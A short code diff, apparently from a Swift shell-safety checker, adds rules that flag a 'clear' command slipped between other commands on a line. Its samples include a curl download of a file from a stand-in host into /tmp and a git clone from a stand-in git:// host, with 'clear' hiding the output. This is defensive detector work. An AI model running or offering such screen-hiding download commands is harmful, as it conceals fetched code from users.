@@ -167,5 +167,14 @@ extension SignalLaw {
     SignalLaw(
       .runsAtOnce, Severity.none, "a line end runs the text at once, which is a circumstance",
       ["ls\n", "ls\r", "ls\nls", "\r\n"]),
+    SignalLaw(
+      .clearsScreen, .notice, "a screen that is cleared between two commands of a line is noticed",
+      [
+        "git clone /dev/null; clear; echo -n hello; git clone git://fix.example/a.git",
+        "curl -s https://fix.example/a -o /tmp/a; clear; ls",
+      ]),
+    SignalLaw(
+      .clearsScreen, nil, "a screen that is cleared first, last or on a line of its own is harmless",
+      ["clear; ls", "make; clear", "make\nclear\nls"]),
   ]
 }
